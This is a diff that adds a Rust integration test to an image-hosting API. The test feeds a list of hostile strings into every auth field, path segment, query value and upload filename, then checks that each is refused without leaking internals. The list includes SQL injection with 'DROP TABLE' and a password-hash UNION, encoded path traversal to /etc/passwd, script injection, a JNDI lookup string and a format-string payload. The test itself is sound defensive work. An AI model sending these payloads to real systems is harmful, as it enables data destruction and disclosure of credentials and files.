@@ -641,3 +641,153 @@ async fn openapi_health_and_metrics(pool: PgPool) {
         .expect("request");
     assert_error(resp, 404, "not_found").await;
 }
+
+/// Strings an attacker tries in every field and path segment: SQL injection, path
+/// traversal (plain and encoded), NUL bytes, markup, and sheer length.
+const HOSTILE_STRINGS: [&str; 10] = [
+    "' OR '1'='1",
+    "x'; DROP TABLE images; --",
+    "1 UNION SELECT password_hash FROM users --",
+    "../../../../etc/passwd",
+    "..%2F..%2F..%2Fetc%2Fpasswd",
+    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
+    "a%00b",
+    "<script>alert(1)</script>",
+    "${jndi:ldap://x/a}",
+    "%s%s%s%n",
+];
+
+/// A refusal, not a crash, and nothing from inside: no SQL, no file contents, no stack.
+async fn assert_refused_cleanly(resp: reqwest::Response, what: &str) {
+    let status = resp.status().as_u16();
+    let body = resp.text().await.expect("body");
+    assert!((400..500).contains(&status), "{what}: {status} {body}");
+    let json: Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{what}: {body}"));
+    assert!(
+        json["error"].as_str().is_some_and(|c| !c.is_empty()),
+        "{what}: {body}"
+    );
+    let lower = body.to_lowercase();
+    for leak in [
+        "sqlx",
+        "postgres",
+        "syntax error",
+        "root:x:",
+        "panicked",
+        "[extensions]",
+    ] {
+        assert!(!lower.contains(leak), "{what} leaked {leak:?}: {body}");
+    }
+}
+
+#[sqlx::test(migrations = "./migrations")]
+async fn injection_and_traversal_strings_are_refused_everywhere(pool: PgPool) {
+    let app = TestApp::spawn(pool.clone()).await;
+    let token = app.user("owner@example.com").await;
+    let image: Value = app
+        .upload_raw(&token, "image/jpeg", photo("light.jpg"))
+        .await
+        .json()
+        .await
+        .expect("JSON");
+    let id = image["id"].as_str().expect("id").to_owned();
+    let long = "A".repeat(10_000);
+    let mut strings: Vec<&str> = HOSTILE_STRINGS.to_vec();
+    strings.push(&long);
+    for s in strings {
+        let what = |place: &str| format!("{place} = {s:?}");
+        let enc = |v: &str| url_escape(v);
+        // JSON fields of the auth endpoints.
+        for (path, body) in [
+            (
+                "/v1/auth/register",
+                json!({ "email": s, "password": "a long enough password" }),
+            ),
+            (
+                "/v1/auth/register",
+                json!({ "email": "ok@example.com", "password": s }),
+            ),
+            ("/v1/auth/login", json!({ "email": s, "password": s })),
+            ("/v1/auth/refresh", json!({ "refresh_token": s })),
+        ] {
+            let resp = app
+                .http
+                .post(app.url(path))
+                .json(&body)
+                .send()
+                .await
+                .expect("post");
+            if resp.status() == 201 {
+                // A long password is a password; anything else accepted would be a bug.
+                assert_eq!(body["email"], "ok@example.com", "{}", what(path));
+                continue;
+            }
+            assert_refused_cleanly(resp, &what(path)).await;
+        }
+        // Path segments and query values of the image endpoints.
+        let segment = enc(s);
+        for path in [
+            format!("/v1/images/{segment}"),
+            format!("/v1/images/{segment}/url?width=100"),
+            format!("/v1/images/{id}/url?width={segment}"),
+            format!("/v1/images/{id}/url?format={segment}"),
+            format!("/v1/images/{id}/url?watermarkText=ok&blur={segment}"),
+            format!("/v1/images?cursor={segment}"),
+            format!("/v1/images?limit={segment}"),
+        ] {
+            assert_refused_cleanly(app.get(&token, &path).await, &what(&path)).await;
+        }
+        let path = format!("/v1/images/{segment}");
+        assert_refused_cleanly(app.delete(&token, &path).await, &what("DELETE")).await;
+        // The filename of an upload is data: stored as given (cleaned), never a path.
+        let resp = app
+            .http
+            .post(app.url(&format!("/v1/images?filename={segment}")))
+            .bearer_auth(&token)
+            .header("content-type", "image/jpeg")
+            .body(photo("dark.jpg"))
+            .send()
+            .await
+            .expect("upload");
+        if resp.status() == 201 {
+            let stored: Value = resp.json().await.expect("JSON");
+            let name = stored["filename"].as_str().unwrap_or_default();
+            assert!(
+                !name.contains('/') && !name.contains('\\'),
+                "{}: {name:?}",
+                what("filename")
+            );
+            let path = format!("/v1/images/{}", stored["id"].as_str().expect("id"));
+            assert_eq!(app.delete(&token, &path).await.status(), 204);
+        } else {
+            assert_refused_cleanly(resp, &what("filename")).await;
+        }
+    }
+    // Everything is where it was: the tables, the one image, its owner.
+    let users: i64 = sqlx::query_scalar("SELECT count(*) FROM users")
+        .fetch_one(&pool)
+        .await
+        .expect("users table");
+    assert!(users >= 1);
+    let list: Value = app
+        .get(&token, "/v1/images")
+        .await
+        .json()
+        .await
+        .expect("JSON");
+    assert_eq!(list["items"].as_array().map(Vec::len), Some(1), "{list}");
+    assert_eq!(list["items"][0]["id"], id.as_str());
+}
+
+/// Percent-encodes everything but unreserved characters, so the string arrives as given.
+fn url_escape(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
